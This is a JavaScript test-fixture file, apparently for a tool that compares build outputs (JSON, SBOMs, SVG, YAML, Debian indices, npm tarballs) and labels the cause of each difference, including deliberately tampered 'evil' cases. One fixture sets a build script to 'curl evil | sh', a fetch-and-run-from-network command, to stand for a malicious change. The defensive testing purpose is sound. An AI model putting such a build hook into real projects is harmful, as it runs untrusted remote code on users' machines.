/** Files of data: what they say, how it is written, and where a build leaves its traces. */
import { benign, evil, honest } from './cases.mjs'
import { replaced } from './edit-bytes.mjs'
import { python, T1, T2 } from './shell.mjs'

const settings = options =>
  python(`import json
settings = {'name': 'hello', 'scripts': {'test': 'true', 'build': 'make'}, 'files': ['b.js', 'a.js', 'c.js'], 'ratio': 1.5}
${options.edit ?? ''}
json.dump(settings, open('out', 'w'), ${options.write ?? 'indent=2'})`)
const written = settings({})
honest('json/value', {
  why: 'One value of a file of settings.',
  a: written,
  b: settings({ edit: `settings['scripts']['build'] = 'curl evil | sh'` }),
  causes: ['content-change'],
})
honest('json/key-order', {
  why: 'The same keys and values, sorted on one side.',
  a: written,
  b: settings({ write: 'indent=2, sort_keys=True' }),
  causes: ['structured-key-order'],
})
honest('json/spelling', {
  why: 'The same data without indentation.',
  a: written,
  b: settings({ write: `separators=(',', ':')` }),
  causes: ['formatting-only'],
})
honest('json/item-order', {
  why: 'The items of a list, sorted on one side.',
  a: written,
  b: settings({ edit: `settings['files'].sort()` }),
  causes: ['readdir-order'],
})

const map = (folder, mappings = 'AAAA;AACA') =>
  python(`import json
json.dump({'version': 3, 'file': 'hello.js', 'sources': ['${folder}/src/hello.ts', '${folder}/src/name.ts'], 'names': [], 'mappings': '${mappings}'}, open('out', 'w'))`)
const maps = ['a.js.map', 'b.js.map']
honest('json/source-map-path', {
  files: maps,
  why: 'Two folders of a build in the paths of a source map.',
  a: map('/build/hello-a1'),
  b: map('/srv/b2/hello'),
  causes: ['build-path'],
})
honest('json/source-map-lines', {
  files: maps,
  why: 'Other mappings beside another folder: not all is explained by it.',
  a: map('/build/hello-a1'),
  b: map('/srv/b2/hello', 'AAAA;AADA'),
  causes: ['content-change'],
})

const plist = (value, options = '') =>
  python(`import plistlib
open('out', 'wb').write(plistlib.dumps({'Version': '${value}', 'Name': 'hello & co', 'Types': ['a', 'b']}, ${options}))`)
const plists = ['a.plist', 'b.plist']
honest('xml/value', {
  files: plists,
  why: 'One value of a list of properties.',
  a: plist('1.0'),
  b: plist('1.1'),
  causes: ['content-change'],
})
honest('xml/key-order', {
  files: plists,
  why: 'The keys of a list of properties, sorted on one side.',
  a: plist('1.0'),
  b: plist('1.0', 'sort_keys=False'),
  causes: ['structured-key-order'],
})
const spelled = write =>
  python(`import xml.etree.ElementTree as e
root = e.Element('project', {'id': '1', 'name': 'a "b"'})
e.SubElement(root, 'version').text = '1 < 2'
e.SubElement(root, 'empty')
open('out', 'wb').write(e.tostring(root, ${write}))`)
honest('xml/spelling', {
  why: 'The same document: an empty element with one tag and with two.',
  a: spelled(''),
  b: spelled('short_empty_elements=False'),
  causes: ['formatting-only'],
})

/** As matplotlib writes it. */
const picture = (time, path = 'M 0 0 L 9 9') =>
  python(
    `open('out', 'w').write('''<?xml version="1.0" encoding="utf-8" standalone="no"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"
  "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="9pt" height="9pt" viewBox="0 0 9 9" xmlns="http://www.w3.org/2000/svg" version="1.1">
 <metadata>
  <rdf:RDF xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">
   <cc:Work>
    <dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/>
    <dc:date>''' + time.strftime('%Y-%m-%dT%H:%M:%S', time.gmtime(T)) + '''.123456</dc:date>
    <dc:format>image/svg+xml</dc:format>
   </cc:Work>
  </rdf:RDF>
 </metadata>
 <g id="figure_1"><path d="${path}"/></g>
</svg>
''')`,
    time,
  )
benign('svg/date', {
  why: 'The date in the metadata of a picture.',
  a: picture(T1),
  b: picture(T2),
  causes: ['build-timestamp'],
  rules: ['svg-date'],
})
honest('svg/path', {
  twin: 'svg/date',
  attack: 'X34',
  why: 'Another path beside another date.',
  a: picture(T1),
  b: picture(T2, 'M 0 9 L 9 0'),
  causes: ['content-change', 'build-timestamp'],
})
evil('svg/message', 'svg/date', {
  attack: 'X34',
  why: 'A text that is no date, in the place of one.',
  made: 'a message in place of the date of b',
  causes: ['content-change'],
  b: file => replaced(file, '2024-12-12T10:40:00.123456', 'a message where a date is!'),
})

/** As npm writes it: `npm sbom`. */
const bom = (time, serial, version = '1.0.0') =>
  python(
    `import json
component = {'bom-ref': 'hello@1.0.0', 'type': 'library', 'name': 'hello', 'version': '${version}', 'purl': 'pkg:npm/hello@${version}'}
json.dump({'$schema': 'http://cyclonedx.org/schema/bom-1.5.schema.json', 'bomFormat': 'CycloneDX', 'specVersion': '1.5',
  'serialNumber': 'urn:uuid:${serial}', 'version': 1,
  'metadata': {'timestamp': time.strftime('%Y-%m-%dT%H:%M:%S.603Z', time.gmtime(T)), 'component': component}, 'components': []}, open('out', 'w'), indent=2)`,
    time,
  )
const serials = ['796dcfe4-01bb-46ff-9203-b23925e5f3f4', '7b7c73d0-a802-40d1-b31c-58d1fab4eea4']
benign('sbom/cyclonedx', {
  why: 'The serial number of an SBOM, and the time when it was made.',
  a: bom(T1, serials[0]),
  b: bom(T2, serials[1]),
  causes: ['sbom-serial-timestamp'],
  rules: ['sbom-serial-time'],
})
honest('sbom/cyclonedx-version', {
  twin: 'sbom/cyclonedx',
  attack: 'X34',
  why: 'Another version of a part beside another serial number.',
  a: bom(T1, serials[0]),
  b: bom(T2, serials[1], '1.0.1'),
  causes: ['content-change', 'sbom-serial-timestamp'],
})
evil('sbom/two-serials', 'sbom/cyclonedx', {
  attack: 'X34',
  why: 'A key that is there twice: it is not known which one counts.',
  made: 'another serialNumber behind the first one, on both sides',
  causes: ['random-uuid'],
  ...Object.fromEntries(
    ['a', 'b'].map(side => [
      side,
      file => Buffer.from(file.toString().replace('"version": 1,', `"serialNumber": "urn:uuid:${serials[0]}", "version": 1,`)),
    ]),
  ),
})
const bomXml = (time, serial, version = '1.0.0') =>
  python(
    `open('out', 'w').write('''<?xml version="1.0" encoding="UTF-8"?>
<bom xmlns="http://cyclonedx.org/schema/bom/1.5" serialNumber="urn:uuid:${serial}" version="1">
  <metadata><timestamp>''' + time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime(T)) + '''</timestamp></metadata>
  <components><component type="library"><name>hello</name><version>${version}</version></component></components>
</bom>
''')`,
    time,
  )
const documents = ['a.xml', 'b.xml']
benign('sbom/cyclonedx-xml', {
  files: documents,
  why: 'The serial number of an SBOM in XML, and the time when it was made.',
  a: bomXml(T1, serials[0]),
  b: bomXml(T2, serials[1]),
  causes: ['sbom-serial-timestamp'],
  rules: ['sbom-serial-time'],
})
honest('sbom/cyclonedx-xml-version', {
  files: documents,
  twin: 'sbom/cyclonedx-xml',
  attack: 'X34',
  why: 'Another version of a part beside another serial number.',
  a: bomXml(T1, serials[0]),
  b: bomXml(T2, serials[1], '1.0.1'),
  causes: ['content-change', 'sbom-serial-timestamp'],
})
const spdx = (time, namespace, name = 'hello') =>
  python(
    `import json
json.dump({'spdxVersion': 'SPDX-2.3', 'SPDXID': 'SPDXRef-DOCUMENT', 'name': '${name}',
  'documentNamespace': 'http://spdx.org/spdxdocs/hello-${namespace}',
  'creationInfo': {'created': time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime(T)), 'creators': ['Tool: x']}}, open('out', 'w'), indent=2)`,
    time,
  )
benign('sbom/spdx', {
  why: 'The time when an SBOM was made.',
  a: spdx(T1, serials[0]),
  b: spdx(T2, serials[0]),
  causes: ['sbom-serial-timestamp'],
  rules: ['sbom-serial-time'],
})
honest('sbom/spdx-namespace', {
  twin: 'sbom/spdx',
  why: 'Another namespace, which other documents may refer to.',
  a: spdx(T1, serials[0]),
  b: spdx(T2, serials[1]),
  causes: ['sbom-serial-timestamp'],
})
const spdx3 = (time, name = 'hello') =>
  python(
    `import json
json.dump({'@context': 'https://spdx.org/rdf/3.0.1/spdx-context.jsonld', '@graph': [
  {'type': 'CreationInfo', '@id': '_:creation', 'specVersion': '3.0.1', 'created': time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime(T)), 'createdBy': ['https://example.org/ann']},
  {'type': 'software_Package', 'spdxId': 'https://example.org/hello', 'creationInfo': '_:creation', 'name': '${name}'}]}, open('out', 'w'), indent=2)`,
    time,
  )
benign('sbom/spdx-3', {
  why: 'The time when an SBOM of SPDX 3 was made.',
  a: spdx3(T1),
  b: spdx3(T2),
  causes: ['sbom-serial-timestamp'],
  rules: ['sbom-serial-time'],
})
honest('sbom/spdx-3-name', {
  twin: 'sbom/spdx-3',
  attack: 'X34',
  why: 'Another package beside another time.',
  a: spdx3(T1),
  b: spdx3(T2, 'hallo'),
  causes: ['content-change', 'sbom-serial-timestamp'],
})
const tagged = (time, part = 'hello') =>
  python(
    `open('out', 'w').write('SPDXVersion: SPDX-2.3\\nDataLicense: CC0-1.0\\nCreated: ' + time.strftime('%Y-%m-%dT%H:%M:%SZ', time.gmtime(T)) + '\\nPackageName: ${part}\\n')`,
    time,
  )
const tagFiles = ['a.spdx', 'b.spdx']
benign('sbom/spdx-tags', {
  files: tagFiles,
  why: 'The time when an SBOM of tags and values was made.',
  a: tagged(T1),
  b: tagged(T2),
  causes: ['sbom-serial-timestamp'],
  rules: ['sbom-serial-time'],
})
honest('sbom/spdx-tags-name', {
  files: tagFiles,
  twin: 'sbom/spdx-tags',
  attack: 'X34',
  why: 'Another package beside another time.',
  a: tagged(T1),
  b: tagged(T2, 'hallo'),
  causes: ['content-change', 'sbom-serial-timestamp'],
})

const linesOf = (...lines) => `printf '%s\\n' ${lines.map(line => `'${line}'`).join(' ')} >out`
const steps = ['jobs:', '  build:', '    steps:', '      - uses: checkout', '      - run: make']
honest('yaml/value', {
  why: 'One value in a list.',
  a: linesOf('name: hello', ...steps),
  b: linesOf('name: hello', ...steps.with(4, '      - run: make evil')),
  causes: ['content-change'],
})
honest('yaml/key-order', {
  why: 'The same keys and values in another order.',
  a: linesOf('name: hello', ...steps),
  b: linesOf(...steps, 'name: hello'),
  causes: ['structured-key-order'],
})
honest('yaml/indentation', {
  why: 'Only blanks differ, and a key stands under another one.',
  a: linesOf('test:', '  skip: no one', 'deploy: all'),
  b: linesOf('test:', '  skip: no one', '  deploy: all'),
  causes: ['content-change'],
})

const stanza = (name, size) => [`Package: ${name}`, 'Version: 1.0', `Size: ${size}`, '']
const indices = ['a_Packages', 'b_Packages']
honest('debian-index/size', {
  files: indices,
  why: 'The size of one package.',
  a: linesOf(...stanza('hello', 10), ...stanza('zlib', 20)),
  b: linesOf(...stanza('hello', 10), ...stanza('zlib', 21)),
  causes: ['content-change'],
})
honest('debian-index/order', {
  files: indices,
  why: 'The same packages in another order.',
  a: linesOf(...stanza('hello', 10), ...stanza('zlib', 20)),
  b: linesOf(...stanza('zlib', 20), ...stanza('hello', 10)),
  causes: ['readdir-order'],
})
const release = time => `printf 'Origin: x\nSuite: stable\nDate: %s\n' "$(date -u -d @${time} '+%a, %d %b %Y %H:%M:%S UTC')" >out`
honest('debian-index/release-date', {
  files: ['a_Release', 'b_Release'],
  why: 'The date of a Release file, by which apt knows the newer one.',
  a: release(T1),
  b: release(T2),
  causes: ['build-timestamp'],
})
honest('csv/cell', {
  why: 'One cell of a table.',
  a: linesOf('name,size', 'hello,10', 'zlib,20'),
  b: linesOf('name,size', 'hello,10', 'zlib,21'),
  causes: ['content-change'],
})
honest('csv/column-order', {
  why: 'The same columns in another order.',
  a: linesOf('name,size', 'hello,10', 'zlib,20'),
  b: linesOf('size,name', '10,hello', '20,zlib'),
  causes: ['structured-key-order'],
})

const packed = (version, more = '') =>
  `mkdir package; printf '%s\\n' '{"name": "hello", "version": "${version}"${more}}' >package/package.json; touch -d @${T1} package package/package.json; tar c package >out`
const packs = ['a.tar', 'b.tar']
honest('npm/manifest-version', {
  files: packs,
  why: 'Two versions of one package.',
  a: packed('1.0.0'),
  b: packed('1.0.1'),
  causes: ['changelog-or-version'],
})
honest('npm/manifest-commit', {
  files: packs,
  why: 'A key that publishing adds.',
  a: packed('1.0.0'),
  b: packed('1.0.0', ', "gitHead": "0123456789012345678901234567890123456789"'),
  causes: ['manifest-rewrite'],
})
const numbered = number => linesOf('<?xml version="1.0"?>', `<id>urn:uuid:${number}</id>`)
honest('xml/random-number', {
  why: 'A number that is drawn anew each time.',
  a: numbered('e2be54ce-0f9f-4f89-aad6-2c2d57365506'),
  b: numbered('b7c73d0a-0a80-40d1-b31c-58d1fab4eea4'),
  causes: ['random-uuid'],
})
